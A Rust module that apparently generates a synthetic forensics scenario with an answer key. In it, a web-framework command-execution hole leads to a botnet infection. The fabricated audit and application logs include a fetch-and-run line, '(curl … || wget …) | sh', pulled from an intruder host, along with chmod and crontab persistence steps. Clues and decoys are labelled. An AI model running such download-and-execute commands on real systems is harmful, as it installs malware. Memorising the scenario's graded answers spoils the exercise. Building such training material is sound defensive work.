//! A hole in a web framework lets strangers run commands through a request. The host joins a botnet and calls its controller.

use abate_model::truth::Attacker;
use abate_model::{Category, CauseKind, Factor, Text, Verdict};

use super::Scenario;
use crate::clock::{self, DAY, HOUR, Second, Zone};
use crate::flow::{Connection, Form, TCP};
use crate::folder::{Frame, Record};
use crate::hostfinding::Finding;
use crate::hostlog::{self, Exec, Logger};
use crate::noise::{self, Noise};
use crate::report::{self, Report, accusation};
use crate::rng::Rng;
use crate::scatter::Scattered;
use crate::stage::{Outcome, Stage};
use crate::weblog;
use crate::world::World;

pub(super) static SCENARIO: Scenario = Scenario {
    id: "node-rce-botnet",
    title: Text::fixed("Botnet after a command was run through a web framework", "Web フレームワーク経由のコマンド実行によるボット感染"),
    summary: Text::fixed(
        "Strangers try a hole of the web framework all day. One request runs a shell, which fetches a bot; the bot calls its controller again and again.",
        "Web フレームワークの脆弱性を狙うリクエストが終日届くなか、一つがシェルを起動し、ボットを取得させます。ボットは指令サーバーへの通信を繰り返します。",
    ),
    build,
};

const HOURS: (i64, i64) = (5, 11);

struct Plot {
    logger: Logger,
    /// every so many seconds the bot calls
    period: i64,
    /// and so much earlier or later
    jitter: i64,
    /// port of the controller
    port: i64,
    /// file of the bot
    bot: &'static str,
    /// path that takes the request
    path: &'static str,
    status: u16,
}

fn build(stage: &mut Stage) -> Outcome {
    let web = stage.world.web.clone();
    let rng = &mut stage.attack;
    let period = rng.pick(&[30_i64, 60, 180, 300]);
    let plot = Plot {
        logger: Logger::draw(rng, &web),
        period,
        jitter: period * rng.pick(&[0_i64, 5, 20]) / 100,
        port: rng.pick(&[443_i64, 8443, 3778, 6667, 12_345]),
        bot: rng.pick(&["/tmp/.kx/javax", "/var/tmp/.sysd", "/dev/shm/.p/nodejs", "/tmp/x86_64"]),
        path: rng.pick(&["/", "/login", "/apps", "/_next/server"]),
        status: rng.pick(&[303_u16, 500, 200]),
    };
    stage.world.flow_form = if rng.chance(50) { Form::Custom } else { Form::Version2 };
    let (world, start) = (stage.world.clone(), stage.world.incident);
    let innocent = super::opens_innocently(&world, &mut stage.attack, start - 36 * HOUR);
    super::trail(stage, super::NO_BUILDS, vec![innocent]);

    let span = (start - 22 * HOUR, start + 10 * HOUR);
    let requests = requests(&world, &mut stage.attack, &plot);
    let (zone, count) = (plot.logger.zone(), stage.scales.hosts);
    stage.log("evidence/web1/access.log", Frame::LINES, visits(zone, 1_200_u32.saturating_mul(count), span), requests);
    let at_hand = stage.attack.range(0, 9);
    if at_hand < 7 {
        let ordinary = hostlog::audit_days(160_u32.saturating_mul(count), span);
        let attack = audit(&world, &mut stage.attack, &plot);
        stage.log("evidence/web1/audit.log", Frame::LINES, ordinary, attack);
    }
    if at_hand >= 4 {
        let ordinary = Scattered::boxed(150_u32.saturating_mul(count), span, move |_, rng, at| vec![app(zone, at, &app_day(rng))]);
        let attack = app_attack(&world, &plot);
        stage.log("evidence/web1/app.log", Frame::LINES, ordinary, attack);
    }
    if stage.attack.chance(45) {
        let findings = findings(&world, &mut stage.attack, &plot);
        stage.log("evidence/guardduty-findings.json", Frame::FINDINGS, None, findings);
    }
    stage.parts.extend(plot.logger.clue("web1", start + DAY));

    let mut calls = Vec::new();
    let mut flows = way_in(&world, &mut stage.attack);
    flows.extend(beacons(&world, &mut stage.attack, &plot, &mut calls));
    flows.extend(Noise::Heartbeat.records(&world, &mut stage.attack, &web, start - 2 * HOUR));
    flows.extend(noise::draw(&world, &mut stage.attack, &web, HOURS, &[Noise::Heartbeat], 3));
    super::flows(stage, HOURS, flows, &[80, 443]);

    let notice = notice(&world, &mut stage.attack, &plot, &calls);
    let outcome = Outcome::new(Category::Botnet, CauseKind::RemoteCodeExecution, Factor::Vulnerability, Verdict::Confirmed, notice);
    let addresses = (0..3).map(|n| world.intruder(n).to_owned()).collect();
    Outcome { attacker: Attacker { addresses, principals: Vec::new() }, ..outcome }
}

/// A line of the access log in its combined form, in the host's zone.
fn hit(zone: Zone, at: Second, from: &str, request: &str, (status, bytes): (u16, i64), agent: &str) -> Record {
    Record::plain(at, format!("{from} - - [{}] \"{request} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"", zone.apache(at)))
}

/// Visitors, scanners, and strangers who try the same hole in vain, since the path is not one that it works on.
fn visits(zone: Zone, count: u32, span: (Second, Second)) -> Option<Box<dyn crate::replay::Ordinary>> {
    Scattered::boxed(count, span, move |_, rng, at| {
        let from = rng.stranger().to_string();
        let (request, answer) = match rng.range(0, 99) {
            0..=59 => (
                format!(
                    "GET {}",
                    rng.pick(&["/", "/products", "/news", "/_next/static/chunks/main-app.js", "/favicon.ico", "/api/stock?sku=118"])
                ),
                (200, rng.range(700, 70_000)),
            ),
            60..=74 => ("POST /api/cart".to_owned(), (200, rng.range(90, 400))),
            75..=79 => ("POST /contact".to_owned(), (303, 0)),
            80..=84 => (format!("POST {}", rng.pick(&["/api/formaction", "/_next", "/admin"])), (404, 1_240)),
            _ => {
                (format!("GET {}", rng.pick(&["/.env", "/wp-login.php", "/.git/config", "/actuator/health", "/phpinfo.php"])), (404, 1_240))
            }
        };
        let agent = weblog::browser(rng);
        vec![hit(zone, at, &from, &request, answer, agent)]
    })
}

fn requests(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (start, zone, from) = (world.incident, plot.logger.zone(), world.intruder(0));
    let agent = rng.pick(&["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Assetnote/1.0.0", "Go-http-client/1.1", "python-requests/2.32.4"]);
    let post = format!("POST {}", plot.path);
    let mut lines = vec![
        hit(zone, start - 31, from, "GET /", (200, 18_204), agent),
        hit(zone, start - 20, from, &post, (plot.status, 76), agent).because("the stranger tries whether the hole is there"),
        hit(zone, start, from, &post, (plot.status, 0), agent).because("the request that runs a shell on the host"),
    ];
    for n in 0..rng.range(3, 8) {
        let (other, at) = (rng.stranger().to_string(), start + rng.range(-20 * HOUR, 9 * HOUR));
        let answer = (rng.pick(&[404_u16, 405, 400]), 153);
        lines.push(
            hit(zone, at + n, &other, "POST /graphql", answer, "Mozilla/5.0 zgrab/0.x")
                .decoy("a stranger who tries holes that are not here"),
        );
    }
    let check = hit(
        zone,
        start - 2 * HOUR,
        "198.18.246.10",
        "POST /api/synthetic-check",
        (200, 44),
        "SiteMonitor/3.2 (+https://monitor.example.net)",
    );
    lines.push(check.decoy("the monitoring service buys something for trial, as agreed"));
    lines
}

fn audit(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (start, pid) = (world.incident, rng.range(30_000, 40_000));
    let url = format!("http://{}/{}", world.intruder(1), rng.pick(&["sex.sh", "b", "nuts/x86", "l.sh"]));
    let piped = format!("(curl -s -k {url}||wget -qO- {url})|sh");
    let (node, uid) = (1_207, 998);
    let exec = |at, pid, exe: &str, argv: &[&str]| Exec { at, pid, uid, exe, argv, cwd: "/srv/app" }.lines();
    let mut lines = Exec { at: start, pid: (pid, node), uid, exe: "/usr/bin/dash", argv: &["/bin/sh", "-c", &piped], cwd: "/srv/app" }
        .because("the server of the web application starts a shell");
    lines.extend(exec(start, (pid + 1, pid), "/usr/bin/curl", &["curl", "-s", "-k", &url]));
    lines.extend(exec(start + 4, (pid + 4, pid + 2), "/usr/bin/chmod", &["chmod", "777", plot.bot]));
    let started = Exec { at: start + 4, pid: (pid + 5, pid + 2), uid, exe: plot.bot, argv: &[plot.bot], cwd: "/tmp" };
    lines.extend(started.because("the bot is started"));
    if rng.chance(50) {
        lines.extend(exec(start + 6, (pid + 9, pid + 5), "/usr/bin/crontab", &["crontab", "-"]));
    }
    let picture = ["/bin/sh", "-c", "convert /srv/app/upload/in.png -resize 640x /srv/app/upload/out.webp"];
    for n in 0..rng.range(2, 6) {
        let at = start - 6 * HOUR + n * 4_700;
        let shell = Exec { at, pid: (28_000 + n, node), uid, exe: "/usr/bin/dash", argv: &picture, cwd: "/srv/app" };
        lines.extend(shell.decoy("the application makes a picture smaller, with a shell as it was written to"));
    }
    lines
}

fn app(zone: Zone, at: Second, message: &str) -> Record {
    Record::plain(at, format!("{}.{:03} {message}", zone.show(at, "%Y-%m-%dT%H:%M:%S"), clock::fraction(at) / 1000))
}

fn app_day(rng: &mut Rng) -> String {
    match rng.range(0, 4) {
        0 => format!("info  order {} placed", rng.range(100_000, 999_999)),
        1 => "warn  upstream stock service took 1204 ms".to_owned(),
        2 => format!("error Error: NEXT_NOT_FOUND digest: '{}'", rng.range(1_000_000_000, 3_999_999_999)),
        3 => "error Error: Failed to find Server Action \"x\". This request might be from an older or newer deployment.".to_owned(),
        _ => format!("info  revalidated /products in {} ms", rng.range(30, 400)),
    }
}

fn app_attack(world: &World, plot: &Plot) -> Vec<Record> {
    let (zone, start) = (plot.logger.zone(), world.incident);
    let failed = "error Error: Command failed: (curl -s -k";
    let tool = world.intruder(1);
    vec![
        app(zone, start - 20, "error Error: Unexpected end of form digest: '2971658870'"),
        app(zone, start + 5, &format!("{failed} http://{tool}/b||wget -qO- http://{tool}/b)|sh at genericNodeError (node:internal/errors:983:15) at ChildProcess.exithandler (node:child_process:421:12)"))
            .because("the application itself notes the command that was run through it"),
        app(zone, start - 4 * HOUR, "error Error: Command failed: convert /srv/app/upload/in.png at ChildProcess.exithandler (node:child_process:421:12)")
            .decoy("a picture that could not be made smaller"),
    ]
}

fn way_in(world: &World, rng: &mut Rng) -> Vec<Record> {
    let (host, start) = (&world.web, world.incident);
    let client = (world.intruder(0), rng.range(40_000, 60_000));
    let request = Connection {
        host,
        client,
        server: (&host.private, 443),
        protocol: TCP,
        at: start - 31,
        seconds: 36,
        there: (29, 6_301),
        back: (33, 24_902),
    };
    let mut flows = request.because(world, "the stranger's requests");
    let client = (host.private.as_str(), rng.range(40_000, 60_000));
    let fetched = Connection {
        host,
        client,
        server: (world.intruder(1), 80),
        protocol: TCP,
        at: start + 1,
        seconds: 3,
        there: (58, 3_320),
        back: (166, 214_800),
    };
    flows.extend(fetched.because(world, "the host fetches the bot"));
    flows
}

/// The bot calls its controller for hours; `calls` gets the times.
fn beacons(world: &World, rng: &mut Rng, plot: &Plot, calls: &mut Vec<Second>) -> Vec<Record> {
    let host = &world.web;
    let (count, sizes) = ((9 * HOUR / plot.period).min(260), (rng.range(420, 700), rng.range(300, 520)));
    let mut flows = Vec::new();
    for n in 0..count {
        let at = world.incident + 8 + n * plot.period + rng.range(-plot.jitter, plot.jitter).max(0);
        let client = (host.private.as_str(), rng.range(32_768, 60_999));
        let call = Connection {
            host,
            client,
            server: (world.intruder(2), plot.port),
            protocol: TCP,
            at,
            seconds: 1,
            there: (7, sizes.0),
            back: (6, sizes.1),
        };
        flows.extend(match n {
            0 => call.because(world, "the bot calls its controller for the first time"),
            _ if n == count / 3 => call.because(world, "a call at the reported time"),
            _ => call.lines(world),
        });
        calls.push(at);
    }
    flows
}

fn findings(world: &World, rng: &mut Rng, plot: &Plot) -> Vec<Record> {
    let (host, start) = (&world.web, world.incident);
    let found = Finding {
        kind: "Backdoor:EC2/C&CActivity.B",
        severity: 8.0,
        title: "An EC2 instance is querying an IP address that is associated with a known command and control server.",
        host,
        seen: (start + 8, start + 8 * HOUR),
        count: 60,
        actor: true,
        domain: None,
        connection: Some((world.intruder(2), plot.port, 40_112)),
    };
    let guessed = Finding {
        kind: "UnauthorizedAccess:EC2/SSHBruteForce",
        severity: 2.0,
        title: "198.18.61.40 is performing SSH brute force attacks against the instance.",
        seen: (start - 9 * HOUR, start - 8 * HOUR),
        count: 4,
        actor: false,
        connection: Some(("198.18.61.40", 50_772, 22)),
        ..found
    };
    vec![
        guessed.record(world, rng).decoy("a stranger who guesses in vain"),
        found.record(world, rng).because("GuardDuty knows the controller"),
    ]
}

fn notice(world: &World, rng: &mut Rng, plot: &Plot, calls: &[Second]) -> Vec<u8> {
    let at = calls.get(calls.len() / 3).copied().unwrap_or(world.incident);
    let (host, port) = (&world.web, plot.port);
    let mut excerpt =
        vec!["This host talks to a controller that we observe (sinkhole and sensors). Times are UTC.".to_owned(), String::new()];
    let some = calls.iter().filter(|call| **call >= at).take(4);
    excerpt.extend(
        some.map(|call| format!("\"{}\",\"{}\",\"{}\",{port},\"tcp\",\"botnet-drone\"", clock::iso(*call), host.public, world.intruder(2))),
    );
    let resource = report::instance(host);
    let fields = vec![format!("Destination IP: {}", world.intruder(2)), format!("Destination port: {port}/TCP")];
    report::write(world, rng, &Report { resource, accusation: accusation::BOTNET, activity: Some("Botnet"), at, fields, excerpt })
}
